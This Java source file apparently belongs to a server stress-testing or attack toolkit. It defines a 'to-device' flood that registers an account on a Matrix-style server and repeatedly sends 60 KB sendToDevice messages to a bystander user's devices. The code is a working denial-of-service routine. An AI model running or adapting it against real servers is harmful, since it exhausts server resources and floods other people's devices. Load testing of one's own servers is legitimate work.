package org.bongsu.attack;

import java.io.IOException;
import java.time.Duration;
import java.util.UUID;
import org.bongsu.client.Http;
import org.bongsu.json.Json;
import tools.jackson.databind.node.ObjectNode;

/** Messages of 60 KB to the devices of the bystander, as fast as they are answered. */
final class ToDeviceFlood implements Attack {
  private static final int AT_ONCE = 4;
  private static final String FILLING = "x".repeat(60_000);

  @Override
  public String name() {
    return "to-device";
  }

  @Override
  public String what() {
    return "to-device messages of 60 KB to the bystander, as fast as they are answered";
  }

  @Override
  public Assault prepare(Target target) throws IOException, InterruptedException {
    Target.Account attacker = target.register("sender");
    String bystander = attacker.userId().replace("@sender:", "@minji:");
    return new RepeatedRequests(
        target, AT_ONCE, Duration.ofMillis(10), i -> message(attacker, bystander));
  }

  private static Http.Ask message(Target.Account attacker, String to) {
    String path = Http.CLIENT + "/sendToDevice/org.example.filling/" + UUID.randomUUID();
    ObjectNode messages = Json.object();
    messages.putObject("messages").putObject(to).putObject("*").put("filling", FILLING);
    return Http.Ask.json("PUT", path, attacker.token(), messages);
  }
}
